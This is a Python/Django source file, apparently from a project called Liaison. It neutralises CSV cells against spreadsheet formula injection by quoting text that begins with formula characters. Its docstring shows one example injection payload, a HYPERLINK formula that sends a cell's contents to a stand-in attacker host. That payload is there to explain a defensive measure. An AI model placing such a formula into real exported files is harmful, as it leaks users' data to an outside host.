"""Every CSV that Liaison writes for a spreadsheet goes through here.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula ("CSV injection"): a team called
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would run in the reader's spreadsheet.
Such text cells get a leading apostrophe, which every spreadsheet shows as text and which
a human reader recognises (the OWASP advice). Numbers are written as numbers: a negative
figure is a value, not a formula, and must stay summable.
"""

import csv

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value):
    """The cell as a spreadsheet will read it safely: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every text cell is neutralised first."""

    def __init__(self, fh, **kwargs):
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_response(name, header, rows):
    """A download of `rows` under `header` as `<name>.csv` (UTF-8), every cell neutralised."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{name}.csv"'
    response["X-Content-Type-Options"] = "nosniff"
    writer = SafeWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response
